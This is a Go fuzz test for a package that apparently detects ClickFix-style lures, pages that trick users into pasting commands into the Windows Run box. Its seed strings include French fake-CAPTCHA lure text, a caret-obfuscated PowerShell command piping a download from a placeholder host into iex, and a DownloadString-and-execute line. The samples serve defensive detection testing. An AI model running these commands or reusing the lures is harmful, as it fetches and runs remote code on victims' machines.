package pasterun

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzText feeds every reader of a text: none may panic, PageText writes
// no more bytes than it reads, and what a reader returns is built from
// its own phrase lists.
func FuzzText(f *testing.F) {
	for _, s := range []string{
		"Pour vérifier que vous êtes humain : 1. Appuyez sur Windows + R 2. Appuyez sur Ctrl + V 3. Appuyez sur Entrée",
		"Copiez la commande ci-dessous, appuyez sur Windows + R, collez-la et appuyez sur Entrée :\np^o^w^e^r^s^h^e^l^l -w h -c \"i^w^r x.example|i^e^x\"",
		"Appuyez sur Ｗｉｎ＋Ｒ puis Ｃｔｒｌ＋Ｖ et Entrée ⊞",
		"Copiez \\\\srv\\commun %temp% C:\\x puis Windows + R, collez, Entrée",
		"<button onclick=\"navigator.clipboard.writeText('x')\">Win&nbsp;+&#43;R</button> Ctrl+V <b>Enter</b>",
		"ClickFix : un faux CAPTCHA vous demande Windows + R, Ctrl + V, Entrée. Ne le faites jamais.",
		"Open PowerShell and type: iex (New-Object Net.WebClient).DownloadString('https://fix.example/a')",
		"\xff\xfe+Ctrl\x00V\\\\%",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range []string{Instruction(s), TypedCommand(s), Mentions(s), RemoteCommand(s)} {
			if r != "" && !strings.HasPrefix(r, `"`) && !strings.Contains(strings.Join(windowsRemote, " ")+strings.Join(windowsRunners, " "), r) {
				t.Errorf("%q: unexpected result %q", s, r)
			}
		}
		page := PageText([]byte(s))
		if len(page) > len(s) {
			t.Errorf("PageText grew %d to %d", len(s), len(page))
		}
		if utf8.ValidString(s) && !utf8.ValidString(narrow(s)) {
			t.Errorf("narrow broke UTF-8 in %q", s)
		}
		lower := []byte(strings.ToLower(s))
		WritesClipboard(lower)
		if got, want := holdsPasteMark(s), nextPaste(s) >= 0; got != want {
			t.Errorf("%q: holdsPasteMark = %v, nextPaste says %v", s, got, want)
		}
		parts := strings.Split(s, "\n")
		anyPaste, anyBox := false, false
		for _, p := range parts {
			anyPaste = anyPaste || nextPaste(p) >= 0
			anyBox = anyBox || namesBox(p)
		}
		if got := MayInstruct(parts...); got != (anyPaste && anyBox) {
			t.Errorf("%q: MayInstruct = %v, want a paste in one line and a box in one", s, got)
		}
	})
}
